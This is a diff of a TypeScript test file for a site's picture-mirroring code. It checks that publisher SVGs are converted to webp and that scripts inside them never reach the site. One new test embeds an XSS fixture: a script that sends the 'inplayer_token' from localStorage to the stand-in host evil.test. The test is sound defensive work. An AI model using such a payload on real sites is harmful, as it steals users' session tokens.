@@ -1,6 +1,8 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { basename, join } from 'node:path'
+import { DatabaseSync } from 'node:sqlite'
+import sharp from 'sharp'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import { pull } from '#publishing/pull/pull.ts'
 import { placePictures } from '#publishing/site/pictures.ts'
@@ -11,8 +13,8 @@ import { openSnapshot } from '#publishing/snapshot/snapshot.ts'
 import { startTinyPlatform } from '../support/tiny-platform.ts'
 
 const film = (mediaid: string) => ({ mediaid, title: mediaid })
-const picture = (width: number, height: number) =>
-  `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"></svg>`
+const picture = (width: number, height: number, inside = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><circle r="20" fill="red"/>${inside}</svg>`
 const background = (id: string, width: number) =>
   `/v2/media/${id}/images/background.webp?poster_fallback=1&width=${width}`
 
@@ -60,7 +62,7 @@ it("copies the large pictures and the banner to the site's own origin, with thei
     [640, 360],
     [1280, 720],
   ])
-  expect(hero?.[0]?.src).toMatch(/^\/_images\/[\da-f]{20}\.svg$/)
+  expect(hero?.[0]?.src).toMatch(/^\/_images\/[\da-f]{20}\.webp$/)
   expect(banner).toMatchObject({ width: 300, height: 60 })
   expect(none).toEqual([])
   expect(warnings).toEqual(['media film0002: the platform has no picture of it'])
@@ -80,7 +82,8 @@ it('puts next to the pages exactly what they name', async () => {
   snapshot.close()
   const { hero = [], banner } = heroNow()
   expect(readdirSync(to).sort()).toEqual([...hero, banner].map((one) => basename(one?.src ?? '')).sort())
-  expect(readFileSync(join(to, basename(hero[0]?.src ?? '')), 'utf8')).toBe(picture(640, 360))
+  const bytesIn = (place: string) => readFileSync(join(place, basename(hero[0]?.src ?? '')))
+  expect(bytesIn(to)).toEqual(bytesIn(join(folder, 'images')))
 })
 
 it('keeps the copy of a picture that can no longer be had, and names a new one anew', async () => {
@@ -106,4 +109,42 @@ it('asks for an unchanged picture by its etag only', async () => {
 it('says so when a picture is none', async () => {
   remote.answers[background('film0002', 640)] = '<html>Sorry</html>'
   expect((await pullNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
+})
+
+it('an SVG of a publisher is shown as a sharp picture, and no script in it comes onto the site', async () => {
+  const script = '<script>new Image().src = "//evil.test/" + localStorage.getItem("inplayer_token")</script>'
+  remote.answers['/banner.svg'] = picture(300, 60, script)
+  remote.answers[background('film0001', 1280)] = picture(1280, 722, script)
+  await pullNow()
+  const { banner, hero } = heroNow()
+  expect([banner, hero?.[1]]).toMatchObject([
+    { width: 300, height: 60 },
+    { width: 1280, height: 722 },
+  ])
+  const names = readdirSync(join(folder, 'images')).filter((name) => !name.startsWith('index.sqlite'))
+  for (const name of names) {
+    const bytes = readFileSync(join(folder, 'images', name))
+    expect([name, bytes.includes('<script'), bytes.includes('<svg')]).toEqual([name, false, false])
+  }
+  const { format, width, height } = await sharp(join(folder, 'images', basename(banner?.src ?? ''))).metadata()
+  expect({ format, width, height }).toEqual({ format: 'webp', width: 1280, height: 256 })
+})
+
+it('a picture of a kind that browsers do not show is left out, with a warning', async () => {
+  const tiff = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#ff0000' } })
+    .tiff()
+    .toBuffer()
+  remote.answers[background('film0002', 640)] = tiff
+  expect((await pullNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
+  expect(heroNow().none).toEqual([])
+})
+
+it('the copy of an SVG that an older version of the site kept is not shown again', async () => {
+  const db = new DatabaseSync(join(folder, 'images', 'index.sqlite'))
+  writeFileSync(join(folder, 'images', 'old.svg'), picture(300, 60))
+  db.prepare('update image set etag = ?, file = ? where url = ?').run('"old"', 'old.svg', `${remote.url}/banner.svg`)
+  db.close()
+  await pullNow()
+  expect(heroNow().banner?.src).toMatch(/\.webp$/)
+  expect(remote.etags).not.toContain('"old"')
 })
